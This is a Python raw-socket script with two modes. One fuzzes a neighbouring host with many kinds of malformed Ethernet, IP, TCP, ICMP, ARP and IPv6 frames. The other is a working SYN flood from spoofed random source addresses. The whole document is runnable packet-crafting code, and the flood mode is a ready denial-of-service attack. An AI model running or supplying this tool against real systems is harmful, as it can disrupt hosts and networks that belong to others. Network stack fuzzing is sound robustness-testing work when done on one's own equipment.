#!/usr/bin/env python3
"""Throws broken frames at a neighbour, past this machine's own TCP/IP.

frames.py garbage INTERFACE TARGET SECONDS [SEED]   every way a frame can be wrong that the author could think of
frames.py flood   INTERFACE TARGET SECONDS [PORT]   correct SYNs from random sources, as fast as it goes

Needs root (AF_PACKET), and an entry for TARGET in the neighbour table (talk to it once). Prints how many were sent.
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def hardware_address_of(target):
    with open("/proc/net/arp") as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if fields[0] == target and fields[3] != "00:00:00:00:00:00":
                return bytes.fromhex(fields[3].replace(":", ""))
    sys.exit(f"{target} is not in the neighbour table: talk to it once first")


def ipv4(source, target, protocol, payload, **wrong):
    version_length = wrong.get("version_length", 0x45)
    length = wrong.get("length", 20 + len(payload))
    fragment = wrong.get("fragment", 0)
    head = struct.pack("!BBHHHBBH4s4s", version_length, 0, length & 0xFFFF, random.getrandbits(16), fragment,
                       wrong.get("ttl", 64), protocol, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head) ^ wrong.get("sum", 0)) + head[12:] + payload


def tcp(source, target, source_port, port, flags, options=b"", payload=b"", **wrong):
    offset = wrong.get("offset", 5 + len(options) // 4)
    head = struct.pack("!HHIIBBHHH", source_port, port, random.getrandbits(32), random.getrandbits(32),
                       (offset & 15) << 4, flags & 255, random.getrandbits(16), 0, random.getrandbits(16))
    segment = head + options + payload
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(segment))
    total = checksum(pseudo + segment) ^ wrong.get("sum", 0)
    return segment[:16] + struct.pack("!H", total) + segment[18:]


SYN_OPTIONS = bytes.fromhex("020405b4" "0402" "080a0000000100000000" "01" "030307")


def garbage_frame(mac, own_mac, own, target):
    """One frame, wrong in one of many ways."""
    pick = random.random
    ethernet = mac + own_mac
    stranger = bytes([10, 77, 0, random.randrange(3, 255)])
    source = random.choice([own, stranger, random.randbytes(4), target, b"\xff" * 4, b"\0" * 4, b"\x7f\0\0\1"])
    flags = random.choice([2, 16, 18, 4, 1, 0, 255, 41, random.getrandbits(8)])
    port = random.choice([80, 80, 80, 443, 0, random.getrandbits(16)])
    segment = tcp(source, target, random.getrandbits(16), port, flags, random.choice([b"", SYN_OPTIONS]),
                  random.randbytes(random.choice([0, 0, 1, 7, 100, 1000])))
    whole = ethernet + b"\x08\x00" + ipv4(source, target, 6, segment)
    kind = random.randrange(20)
    if kind == 0:
        return random.randbytes(random.randrange(14, 1514))
    if kind == 1:
        return ethernet + random.choice([b"\x08\x00", b"\x08\x06", b"\x86\xdd", b"\x81\x00"]) + random.randbytes(
            random.randrange(0, 200))
    if kind == 2:
        return whole[:random.randrange(14, len(whole))]
    if kind == 3:
        at = random.randrange(14, len(whole))
        return whole[:at] + bytes([whole[at] ^ (1 << random.randrange(8))]) + whole[at + 1:]
    if kind == 4:
        return ethernet + b"\x08\x00" + ipv4(source, target, 6, segment, sum=random.randrange(1, 0x10000))
    if kind == 5:
        bad = tcp(source, target, random.getrandbits(16), port, flags, sum=random.randrange(1, 0xFFFF))
        return ethernet + b"\x08\x00" + ipv4(source, target, 6, bad)
    if kind == 6:
        bad = tcp(source, target, 4000, port, flags, offset=random.randrange(16))
        return ethernet + b"\x08\x00" + ipv4(source, target, 6, bad)
    if kind == 7:
        options = random.choice([b"\x02\x00\x05\xb4", b"\x02\xff\x05\xb4", b"\x08\x0a\0\0", b"\x05\x02\x01\x01",
                                 b"\x03\x01\x01\x01", random.randbytes(40), b"\x05\x0a" + random.randbytes(10)])
        options += b"\0" * (-len(options) % 4)
        return ethernet + b"\x08\x00" + ipv4(source, target, 6, tcp(source, target, 4000, port, flags, options))
    if kind == 8:
        return ethernet + b"\x08\x00" + ipv4(source, target, 6, segment, length=random.getrandbits(16))
    if kind == 9:
        return ethernet + b"\x08\x00" + ipv4(source, target, 6, segment, version_length=random.getrandbits(8))
    if kind == 10:
        fragment = random.choice([0x2000, 0x2001, 0x1FFF, 0x3FFF, random.getrandbits(14)])
        return ethernet + b"\x08\x00" + ipv4(source, target, random.choice([1, 6, 17]), segment, fragment=fragment)
    if kind == 11:
        return ethernet + b"\x08\x00" + ipv4(source, target, 1, random.randbytes(random.randrange(0, 80)))
    if kind == 12:  # ICMP errors about connections that may or may not be ours
        inner = ipv4(target, source, 6, segment[:random.choice([0, 4, 8, 20])])[:random.randrange(1, 48)]
        body = struct.pack("!BBHI", random.choice([3, 4, 5, 11, 12]), random.randrange(16), 0, random.getrandbits(32))
        body += inner
        body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
        return ethernet + b"\x08\x00" + ipv4(source, target, 1, body)
    if kind == 13:
        arp = struct.pack("!HHBBH", 1, 0x800, random.choice([6, 0, 255]), random.choice([4, 0, 16]),
                          random.choice([1, 2, 0, 9])) + random.randbytes(random.randrange(0, 30))
        return ethernet + b"\x08\x06" + arp
    if kind == 14:
        tags = b"\x81\x00" + random.randbytes(2)
        return ethernet + tags * random.randrange(1, 5) + whole[12:][:random.randrange(0, 60)]
    if kind == 15:
        return ethernet + b"\x08\x00" + ipv4(source, target, 17, random.randbytes(random.randrange(0, 30)))
    if kind == 16:
        return ethernet + b"\x08\x00" + ipv4(source, target, random.getrandbits(8), random.randbytes(40))
    if kind == 17:  # IPv6 with extension headers that lead nowhere
        head = struct.pack("!IHBB", 6 << 28, random.getrandbits(16), random.choice([0, 6, 43, 44, 58, 60, 255]), 255)
        return ethernet + b"\x86\xdd" + head + random.randbytes(random.randrange(0, 120))
    if kind == 18:
        return ethernet + b"\x08\x00" + ipv4(source, target, 6, segment, ttl=random.choice([0, 1]))
    if pick() < 0.5:
        return whole[:14]
    return whole + random.randbytes(random.randrange(0, 40))  # longer than it says


def main():
    if len(sys.argv) < 5:
        sys.exit(__doc__)
    what, interface, target, seconds = sys.argv[1:5]
    extra = int(sys.argv[5]) if len(sys.argv) > 5 else None
    packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    packets.bind((interface, 0))
    own_mac = packets.getsockname()[4]
    mac = hardware_address_of(target)
    target = socket.inet_aton(target)
    own = target[:3] + b"\1"
    if what == "garbage":
        random.seed(extra or 1)
        frames = [garbage_frame(mac, own_mac, own, target) for _ in range(20_000)]
        frames = [frame[:1514] for frame in frames if len(frame) >= 14]
    elif what == "flood":
        random.seed()
        frames = []
        for _ in range(8_192):
            source = bytes([random.randrange(11, 120), *random.randbytes(2), random.randrange(1, 255)])
            syn = tcp(source, target, random.randrange(1024, 65536), extra or 80, 2, SYN_OPTIONS)
            frames.append(mac + own_mac + b"\x08\x00" + ipv4(source, target, 6, syn))
    else:
        sys.exit(__doc__)
    sent = refused = 0
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for frame in frames:
            try:
                packets.send(frame)
                sent += 1
            except OSError:
                refused += 1
        if what == "garbage" and sent >= 200_000:
            break
    print(sent, "sent", refused, "refused")


main()
